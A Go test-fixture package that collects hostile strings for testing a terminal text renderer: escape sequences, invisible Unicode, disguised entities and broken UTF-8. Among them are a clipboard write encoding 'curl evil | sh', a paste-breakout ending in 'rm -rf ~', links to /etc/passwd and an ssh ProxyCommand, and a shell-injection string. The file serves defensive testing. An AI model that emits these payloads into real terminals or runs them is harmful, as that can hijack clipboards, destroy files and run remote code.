// Package nasty makes hostile articles for tests: text that tries to command
// the terminal, to hide or turn what is read, or to cost more time than it is
// worth. No room of the program imports it; tests of every room may. It imports
// the standard library only.
package nasty

import "strings"

// Payload is one hostile string and what it tries.
type Payload struct{ Name, Text string }

// Payloads gives the text of every payload of [Named].
func Payloads() []string {
	var texts []string
	for _, p := range Named() {
		texts = append(texts, p.Text)
	}
	return texts
}

// Named gives every payload with its name, in a fixed order: those that were
// seen to pass through Glamour, Lip Gloss or Bubble Tea, and their kin.
func Named() []Payload {
	all := [][]Payload{commands(), controls(), hidden(), disguised(), broken()}
	var named []Payload
	for _, p := range all {
		named = append(named, p...)
	}
	return named
}

// commands are escape sequences that a terminal obeys.
func commands() []Payload {
	return []Payload{
		{"clipboard, ended by BEL", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"},
		{"clipboard, ended by ST", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"},
		{"clipboard, asked for", "\x1b]52;c;?\x07"},
		{"clear the screen", "\x1b[2J\x1b[H"},
		{"clear what was scrolled off", "\x1b[3J"},
		{"cursor position, answered as typed", "\x1b[6n"},
		{"window title, answered as typed", "\x1b[21t"},
		{"attributes, answered as typed", "\x1b[c\x1b[>c\x1b[=c"},
		{"answerback", "\x05"},
		{"conceal", "\x1b[8mconcealed\x1b[28m"},
		{"blink", "\x1b[5mblink\x1b[0m"},
		{"black on black", "\x1b[30;40mhidden\x1b[0m"},
		{"true colour with colons", "\x1b[38:2::255:0:0mred"},
		{"reset the terminal", "\x1bc"},
		{"alignment test", "\x1b#8"},
		{"drawing characters", "\x1b(0lqqk\x1b(B"},
		{"leave the alternate screen", "\x1b[?1049l"},
		{"report the mouse", "\x1b[?1003h\x1b[?1006h"},
		{"end a paste", "\x1b[201~rm -rf ~\r"},
		{"hide the cursor", "\x1b[?25l"},
		{"scroll region", "\x1b[1;2r"},
		{"resize the window", "\x1b[8;500;500t"},
		{"request a setting (DCS)", "\x1bP$q\"p\x1b\\"},
		{"define keys (DCS)", "\x1bP0;1|17/6c73\x1b\\"},
		{"picture (sixel)", "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\"},
		{"picture (kitty, APC)", "\x1b_Gf=100,t=f;L2V0Yy9wYXNzd2Q=\x1b\\"},
		{"picture (iTerm2)", "\x1b]1337;File=inline=1:AAAA\x07"},
		{"privacy message (PM)", "\x1b^private\x1b\\"},
		{"start of string (SOS)", "\x1bXstring\x1b\\"},
		{"title", "\x1b]0;owned\x07"},
		{"title, never ended", "\x1b]2;owned"},
		{"palette, asked for", "\x1b]4;1;?\x07\x1b]11;?\x07"},
		{"notification", "\x1b]777;notify;a;b\x07\x1b]9;hello\x07"},
		{"link to a script", "\x1b]8;;javascript:alert(1)\x07here\x1b]8;;\x07"},
		{"link to a file", "\x1b]8;;file:///etc/passwd\x1b\\here\x1b]8;;\x1b\\"},
		{"link to a shell", "\x1b]8;;ssh://-oProxyCommand=id\x07here\x1b]8;;\x07"},
		{"link, never ended", "\x1b]8;;https://evil.example/\x07"},
		{"CSI of the second set", "\u009b2J\u009b8m"},
		{"OSC of the second set", "\u009d52;c;eA==\u009c"},
		{"DCS, SOS, PM and APC of the second set", "\u0090q\u0098s\u009ep\u009fa\u009c"},
		{"CSI as one raw byte", "\x9b2J"},
		{"OSC as one raw byte", "\x9d0;owned\x9c"},
		{"escapes in escapes", "\x1b\x1b]\x1b]52;c;eA==\x07\x1b[\x1b[2J"},
		{"an escape split by a zero-width blank", "\x1b\u200b]0;owned\x07"},
	}
}

// controls move, ring or break.
func controls() []Payload {
	return []Payload{
		{"NUL", "a\x00b"}, {"BEL", "\a\a\a"}, {"backspace over text", "safe\b\b\b\bevil"},
		{"carriage return over text", "harmless\revil"}, {"vertical tab and form feed", "a\vb\fc"},
		{"shift out and in", "\x0eabc\x0f"}, {"DEL", "a\x7fb"}, {"tabs", "\t\ta\tb"},
		{"XON and XOFF", "\x13\x11"}, {"interrupt and end", "\x03\x04\x1a\x1c"}, {"cancel", "\x1b[\x18x\x1b[\x1ay"},
		{"next line", "a\u0085b"}, {"line and paragraph separators", "a\u2028b\u2029c"},
		{"line ends of every kind", "a\r\nb\n\rc\rd"},
	}
}

// hidden are characters without a look of their own, and those that change the
// order or the width of others.
func hidden() []Payload {
	return []Payload{
		{"override to the left", "\u202egpj.exe"}, {"embedding", "\u202a\u202bx\u202c"}, {"override to the right", "\u202dx"},
		{"isolates", "\u2066\u2067\u2068x\u2069"}, {"unclosed isolates", strings.Repeat("\u2067", 70)},
		{"marks of direction", "\u200e\u200f\u061c"}, {"zero-width blank", "Lav\u200brov"},
		{"joiners in Latin", "Ler\u200dn\u200cer"}, {"word joiner and byte order mark", "a\u2060b\ufeffc"},
		{"soft hyphens", "Lav\u00adrov"}, {"Hangul fillers", "\u3164\u115f\u1160\uffa0"},
		{"tags", "x\U000e0001\U000e0068\U000e0069\U000e007f"}, {"noncharacters", "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff"},
		{"private use", "\ue000\uf8ff\U000f0000\U00100000"}, {"invisible operators", "a\u2061b\u2062c\u2063d\u2064"},
		{"deprecated formatting", "\u206a\u206b\u206c\u206d\u206e\u206f"}, {"annotations", "\ufff9a\ufffab\ufffb"},
		{"object replacement", "\ufffc"}, {"variation selectors", "a\ufe00b\ufe0fc\U000e0100"},
		{"data in selectors", "😀" + strings.Repeat("\U000e0121\ufe01", 20)}, {"grapheme joiner", "a\u034f\u0301"},
		{"Mongolian and Khmer fillers", "\u180b\u180e\u17b4\u17b5"}, {"musical and shorthand controls", "\U0001d173\U0001bca0"},
		{"a letter with 60 marks", "Z" + strings.Repeat("\u0301\u0323\u20dd", 20)}, {"marks on nothing", "\u0301\u0489\u20e3"},
		{"decomposed accents", "cafe\u0301 Vie\u0323\u0302t A\u030a"}, {"a chain of pictures", strings.Repeat("👩\u200d", 30) + "👧"},
		{"a family, a flag, skin and a keycap", "👨\u200d👩\u200d👧\u200d👦🇬🇧👍🏽1\ufe0f\u20e3❤\ufe0f🏴\U000e0067\U000e0062\U000e007f"},
		{"one very wide character", "﷽𒐫⸻"}, {"conjoining jamo", strings.Repeat("\u1100", 12) + strings.Repeat("\u1161", 12)},
		{"a long conjunct", strings.Repeat("क्", 40) + "क"}, {"Arabic, Hebrew and Thai", "هذا النص مِنَ اليمين, עברית, ที่นี่"},
		{"full-width and half-width", "ＡＢＣ ｶﾞｷﾞ 日本語"}, {"ideographic and other blanks", "a\u3000b\u00a0c\u2003d\u202fe\u1680f\u205fg"},
		{"singletons of the normal form", "\u212b\u2126\u037e\u2000\uf900\u0344"},
	}
}

// disguised turn into something else when text is parsed.
func disguised() []Payload {
	return []Payload{
		{"escape as an entity", "&#27;]52;c;eA==&#7;"}, {"escape as a hexadecimal entity", "&#x1b;[2J&#x9b;8m"},
		{"escape as an entity in code", "`&#27;]0;owned&#7;`"}, {"entity split by emphasis", "~~&**#27;**[31m~~"},
		{"entity of an entity", "&amp;#27;[2J"}, {"override as an entity", "&#x202e;evil&#8238;"}, {"NUL as an entity", "&#0;&#x0;"},
		{"named entities", "&NewLine;&Tab;&shy;&ZeroWidthSpace;&lrm;&nbsp;&lt;script&gt;"}, {"entity without end", "&#27&#x1b&"},
		{"link to a script in Markdown", "[here](javascript:alert(1))"}, {"link whose label is another", "[https://good.example](https://evil.example)"},
		{"link with an escape in it", "[x](https://a/\x1b]0;owned\x07)"}, {"reference link", "[a][b]\n\n[b]: file:///etc/passwd \"\x1b[2J\""},
		{"picture", "![alt \x1b[2J](file:///etc/passwd)"}, {"automatic links", "<https://a.example/\u202e> www.evil.example/\x07"},
		{"HTML", "<script>alert(1)</script><img src=x onerror=y><a href='javascript:1'>x</a><!-- \x1b[2J -->"},
		{"Markdown that breaks out", "]()**`~~~\n```\n<!--\n---\n***\n| a | b |\n|--\n\\"}, {"footnote and task", "[^1]\n\n[^1]: \x1b[2J\n- [x] \x07"},
		{"a shell command", "$(touch /tmp/owned) `id`; rm -rf ~ | sh"}, {"format verbs", "%s%d%!x(MISSING)%n"},
		{"a path", "../../../../etc/passwd"}, {"template", "{{.}}{{7*7}}${jndi:x}"},
	}
}

// broken is what is not UTF-8.
func broken() []Payload {
	return []Payload{
		{"bytes that begin nothing", "\xff\xfe\x80\xbf"}, {"too long for what it says", "\xc0\x9b\xe0\x80\x9b\xf0\x80\x80\x9b"},
		{"surrogates", "\xed\xa0\x80\xed\xb0\x80"}, {"beyond the last character", "\xf4\x90\x80\x80\xf8\x88\x80\x80\x80"},
		{"half a character", "caf\xc3 \xe2\x80"}, {"escape after half a character", "\xe2\x1b[2J"},
		{"Windows-1252", "\x93talks\x94 in Gen\xe8ve \x96 na\xefve"}, {"Shift-JIS", "\x83W\x83\x85\x83l\x81[\x83u"},
		{"mojibake", "GenÃ¨ve â€œtalksâ€\u009d"},
	}
}
